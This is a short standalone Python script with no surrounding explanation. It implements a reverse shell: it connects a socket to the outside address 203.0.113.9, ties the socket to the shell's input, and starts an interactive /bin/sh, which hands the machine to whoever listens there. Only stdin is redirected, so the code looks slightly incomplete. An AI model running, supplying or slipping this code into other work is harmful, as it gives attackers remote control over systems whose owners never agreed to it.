import socket, os, subprocess
s = socket.socket()
s.connect(("203.0.113.9", 1))
os.dup2(s.fileno(), 0)
subprocess.call(["/bin/sh", "-i"])
